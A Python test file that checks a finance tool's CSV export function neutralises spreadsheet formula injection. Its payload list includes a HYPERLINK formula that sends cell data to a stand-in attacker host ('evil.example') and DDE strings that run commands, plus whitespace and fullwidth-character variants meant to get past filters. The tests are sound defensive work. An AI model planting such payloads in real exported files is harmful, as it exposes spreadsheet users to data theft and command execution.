"""Texts of others act nowhere: not as a formula, as a command to a terminal, or as a line of their own."""

import csv
import io
from decimal import Decimal

import pytest

from finance_hooks.model.plain_text import csv_cell

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "F1;=1+1",
    "F1; @SUM(A1)",
    "F1\n=1+1;-2+1",
    "-1.5e3",
    "-1;=2",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula_however_cells_are_parted(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow(["a", csv_cell(text), "b"])

    # Excel and LibreOffice part at the comma; Excel with Dutch settings at the semicolon, quotes or not.
    cells = [*next(csv.reader(io.StringIO(written.getvalue()))), *written.getvalue().strip().split(";")]
    acting = [
        cell for cell in cells if cell.strip().strip('"').startswith(("=", "+", "-", "@", "\uff1d", "|", "%"))
    ]
    assert [cell for cell in acting if not cell.lstrip("-").replace(".", "").isdecimal()] == []
    assert len(written.getvalue().splitlines()) == 1


@pytest.mark.parametrize("number", ["-12.50", "0.00", "1234567.89", "-3", "26700001", "007"])
def test_numbers_stay_numbers(number: str) -> None:
    assert csv_cell(number) == number


@pytest.mark.parametrize("value", [None, 7, Decimal("-1.20"), True])
def test_what_is_no_text_stays_as_it_is(value: object) -> None:
    assert csv_cell(value) is value


@pytest.mark.parametrize(
    "text", ["F2026-0001", "Afval & Zn. B.V.", "gross: 1.00 / -2.00; vat: -1.00", "a@b.example"]
)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert csv_cell(text) == text
